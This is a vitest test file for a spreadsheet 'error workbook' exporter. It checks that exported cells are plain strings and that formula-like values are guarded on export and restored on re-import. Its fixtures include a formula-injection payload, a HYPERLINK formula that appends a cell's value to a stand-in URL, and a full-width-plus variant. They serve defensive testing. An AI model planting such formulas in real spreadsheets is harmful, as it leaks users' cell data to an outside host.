import * as XLSX from '@e965/xlsx';
import { describe, expect, it } from 'vitest';
import { errorWorkbook, REASON_HEADER, ROW_HEADER } from '../../../electron/core/import/error-workbook';
import { parseInProcess } from '../../../electron/core/import/parse-file';
import { HEADERS } from './fixtures';

describe('the error workbook', () => {
  const rows = [
    { row: 3, cells: ['王镕', '01012345678', '=HYPERLINK("http://x/?"&A1)', '110101199003071234'], reasons: '手机号无效 (B)' },
    { row: 7, cells: ['李堃', '', '＋1+2', '11010119900307002X'], reasons: '缺少姓名' },
  ];

  it('is reasons, the original columns, then the row; every cell a string', () => {
    const book = XLSX.read(errorWorkbook(HEADERS, rows), { type: 'buffer' });
    const sheet = book.Sheets[book.SheetNames[0]!]!;
    const aoa = XLSX.utils.sheet_to_json<string[]>(sheet, { header: 1, raw: true, defval: '' });
    expect(aoa[0]).toEqual([REASON_HEADER, ...HEADERS, ROW_HEADER]);
    expect(aoa[1]).toEqual(['手机号无效 (B)', '王镕', '01012345678', `'=HYPERLINK("http://x/?"&A1)`, '110101199003071234', '3']);
    expect(aoa[2]![5]).toBe('7');
    for (const [address, cell] of Object.entries(sheet)) {
      if (address.startsWith('!')) continue;
      expect((cell as XLSX.CellObject).t).toBe('s');
      expect((cell as XLSX.CellObject).f).toBeUndefined();
    }
  });

  it('imports back to the same values: the guard comes off and the extra columns are not mapped', () => {
    const table = parseInProcess(errorWorkbook(HEADERS, rows));
    expect(table.headers).toEqual([REASON_HEADER, ...HEADERS, ROW_HEADER]);
    expect(table.rows.map((r) => r.cells.slice(1, 5))).toEqual([
      ['王镕', '01012345678', '=HYPERLINK("http://x/?"&A1)', '110101199003071234'],
      // NFKC makes the full-width plus a plain one, as for every imported cell.
      ['李堃', '', '+1+2', '11010119900307002X'],
    ]);
    expect(table.precisionLost).toEqual([]);
  });
});
